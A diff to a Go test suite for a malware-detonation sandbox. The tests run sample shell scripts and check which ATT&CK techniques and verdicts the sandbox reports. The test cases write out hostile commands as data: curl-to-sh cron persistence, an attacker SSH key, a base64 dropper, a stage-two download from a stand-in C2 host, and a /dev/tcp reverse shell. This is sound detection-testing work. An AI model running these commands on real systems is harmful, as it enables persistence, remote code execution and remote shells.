@@ -4,6 +4,7 @@ package sandbox
 
 import (
 	"context"
+	"debug/elf"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -93,6 +94,17 @@ func buildImplant(t *testing.T) string {
 	if b, err := cmd.CombinedOutput(); err != nil {
 		t.Fatalf("build implant: %v: %s", err, b)
 	}
+	// A static ELF: no program interpreter (dynamic loader) to run it.
+	f, err := elf.Open(out)
+	if err != nil {
+		t.Fatalf("implant is not an ELF: %v", err)
+	}
+	defer f.Close()
+	for _, p := range f.Progs {
+		if p.Type == elf.PT_INTERP {
+			t.Fatal("implant is not static: it has a program interpreter")
+		}
+	}
 	return out
 }
 
@@ -107,6 +119,7 @@ func TestDetonateSamples(t *testing.T) {
 		body       string // a shell script, or "" for the implant ELF
 		network    string
 		techniques []string
+		not        []string // techniques that would be wrong here
 		verdict    string
 		inTree     string // a command line in the tree, with one of techniques as its badge
 		file       string // a file reported, with a hash unless deleted
@@ -116,14 +129,18 @@ func TestDetonateSamples(t *testing.T) {
 			techniques: []string{"T1033", "T1082", "T1087.001"}, verdict: "suspicious", inTree: "whoami"},
 		{name: "systemd-persistence", body: "mkdir -p $HOME/.config/systemd/user\nprintf '[Service]\\nExecStart=/tmp/x\\n' > $HOME/.config/systemd/user/updater.service\n",
 			techniques: []string{"T1543.002"}, verdict: "suspicious", file: Home + "/.config/systemd/user/updater.service"},
+		// The system cron files are read-only in the sandbox: the writes
+		// fail, and the commands that tried are what is reported.
+		{name: "cron-persistence", body: "echo '*/5 * * * * curl -s http://198.51.100.7/m.sh | sh' | tee -a /etc/crontab >/dev/null\nsh -c \"echo '@reboot /tmp/.x' >> /etc/cron.d/updater\"\n",
+			techniques: []string{"T1053.003"}, verdict: "suspicious", inTree: "tee -a /etc/crontab"},
 		{name: "authorized-keys", body: "mkdir -p $HOME/.ssh\necho 'ssh-ed25519 AAAAC3Nza attacker@c2' >> $HOME/.ssh/authorized_keys\n",
 			techniques: []string{"T1098.004"}, verdict: "suspicious", file: Home + "/.ssh/authorized_keys"},
 		{name: "base64-payload", body: "echo 'IyEvYmluL3NoCmlkCg==' | base64 -d > /tmp/.p; chmod +x /tmp/.p; /tmp/.p\n",
-			techniques: []string{"T1222.002"}, verdict: "suspicious", inTree: "chmod +x /tmp/.p", file: "/tmp/.p"},
-		{name: "download", network: NetworkSink, body: "curl -s -m 5 -o /tmp/stage2 http://cdn.evil-c2.example/stage2; chmod +x /tmp/stage2\n",
-			techniques: []string{"T1105"}, verdict: "suspicious", dest: "cdn.evil-c2.example"},
+			techniques: []string{"T1140", "T1222.002", "T1564.001"}, verdict: "malicious", inTree: "/tmp/.p", file: "/tmp/.p"},
+		{name: "download", network: NetworkSink, body: "curl -s -m 5 -o /tmp/stage2 http://cdn.evil-c2.example/stage2\n",
+			techniques: []string{"T1105"}, verdict: "suspicious", inTree: "curl -s -m 5", dest: "cdn.evil-c2.example"},
 		{name: "reverse-shell", network: NetworkSink, body: "bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; echo id >&3' \n",
-			techniques: []string{"T1059.004"}, verdict: "malicious", dest: "203.0.113.7:4444"},
+			techniques: []string{"T1059.004", "T1095"}, not: []string{"T1496"}, verdict: "malicious", inTree: "/dev/tcp/203.0.113.7/4444", dest: "203.0.113.7:4444"},
 		{name: "self-deleting-elf", network: NetworkSink,
 			techniques: []string{"T1070.004"}, verdict: "malicious", inTree: SamplePath, dest: "203.0.113.7:4444"},
 	}
@@ -136,6 +153,10 @@ func TestDetonateSamples(t *testing.T) {
 				sample = script(t, c.body)
 			}
 			rep, _ := detonate(t, sample, Options{Network: c.network})
+			t.Logf("%s (%.1f): %v", rep.Verdict, rep.Score, rep.techniqueIDs())
+			for _, r := range rep.Rules {
+				t.Logf("  %s %s %s %v", r.Source, r.Severity, r.Title, r.Techniques)
+			}
 			seen := map[string]bool{}
 			for _, tq := range rep.Techniques {
 				seen[tq.ID] = true
@@ -143,6 +164,11 @@ func TestDetonateSamples(t *testing.T) {
 			for _, want := range c.techniques {
 				if !seen[want] {
 					t.Errorf("technique %s not reported: %v", want, rep.techniqueIDs())
+				}
+			}
+			for _, wrong := range c.not {
+				if seen[wrong] {
+					t.Errorf("technique %s reported: %v", wrong, rep.techniqueIDs())
 				}
 			}
 			if rank(rep.Verdict) < rank(c.verdict) {
